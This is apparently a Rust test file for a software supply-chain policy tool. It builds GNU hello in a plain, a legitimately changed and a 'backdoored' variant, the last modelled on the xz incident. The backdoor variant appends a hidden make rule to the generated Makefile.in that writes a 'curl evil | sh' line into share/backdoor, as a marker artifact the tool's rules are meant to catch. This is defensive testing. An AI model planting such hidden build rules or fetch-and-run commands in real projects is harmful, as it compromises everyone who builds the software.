/// named in Makefile.am and in the Makefile.in automake regenerates from
/// it (edited here as automake would: the object, the source, the
/// dependency file), so the build compiles and links it. The backdoored
/// tree's Makefile.in (as in the xz backdoor, a generated file in the
/// release tarball) makes `all` also write `share/backdoor`.
fn generate_hello(tarball: &Path, tree: &Path, kind: Tree) {
    common::unpack_hello(tarball, tree);
    let edit = |rel: &str, from: &str, to: &str| {
        let path = tree.join(rel);
        let text = fs::read_to_string(&path).unwrap();
        assert_eq!(text.matches(from).count(), 1, "{rel}: {from}");
        fs::write(&path, text.replacen(from, to, 1)).unwrap();
    };
    match kind {
        Tree::Plain => {}
        Tree::NextWeek => {
            write_file(
                tree,
                "src/extra.c",
                "/* Next week's new source file. */\n#include <config.h>\n\
                 int hello_extra (void);\nint hello_extra (void) { return 42; }\n",
            );
            // Makefile.am first: Makefile.in must not look older than it.
            edit(
                "Makefile.am",
                "hello_SOURCES = src/hello.c src/system.h\n",
                "hello_SOURCES = src/hello.c src/extra.c src/system.h\n",
            );
            edit(
                "Makefile.in",
                "hello_SOURCES = src/hello.c src/system.h\n",
                "hello_SOURCES = src/hello.c src/extra.c src/system.h\n",
            );
            edit(
                "Makefile.in",
                "am_hello_OBJECTS = src/hello.$(OBJEXT)\n",
                "am_hello_OBJECTS = src/hello.$(OBJEXT) src/extra.$(OBJEXT)\n",
            );
            edit(
                "Makefile.in",
                "@AMDEP_TRUE@@am__include@ @am__quote@src/$(DEPDIR)/hello.Po@am__quote@\n",
                "@AMDEP_TRUE@@am__include@ @am__quote@src/$(DEPDIR)/extra.Po@am__quote@\n\
                 @AMDEP_TRUE@@am__include@ @am__quote@src/$(DEPDIR)/hello.Po@am__quote@\n",
            );
        }
        Tree::Backdoor => {
            let path = tree.join("Makefile.in");
            let mut text = fs::read_to_string(&path).unwrap();
            text.push_str(
                "\nall: share/backdoor\nshare/backdoor:\n\
                 \tmkdir -p share && echo 'curl evil | sh' > share/backdoor\n",
            );
            fs::write(&path, text).unwrap();
        }
    }
}

/// GNU hello 2.10, a real autotools build, through the same chain. Pins two
/// bugs of the first generalized drafts: hello's make step drafted to 38
/// material and 39 product rules (checked-out headers matched one by one,
/// one `MODIFY` per rewritten `.deps/*.Po`), and next week's tree, with a new
/// `src/extra.c` built as a maintainer would add it, failed on
/// `'DISALLOW *' matched the following artifacts: ['src/.deps/extra.Po']`.
#[test]
fn a_generalized_draft_of_gnu_hello_lasts() {
    const TEST: &str = "a_generalized_draft_of_gnu_hello_lasts";
    let Some(tarball) = common::hello_tarball(TEST) else {
        return;
    };
    generalized_draft_lasts(
        &ConfigureMake {
            test: TEST,
            tools: &["make", "gcc", "tar", "gzip"],
            generate: &|tree, kind| generate_hello(&tarball, tree, kind),
            configure: &["./configure"],
            package: &["tar", "czf", "hello.tar.gz", "hello"],
            program: "hello",
            next_week_product: "src/extra.o",
            backdoor: "share/backdoor",
        },
        |_, suggested, layout| {
            println!("hello: suggested {suggested:?}\n{layout:#}");
        },
    );
}
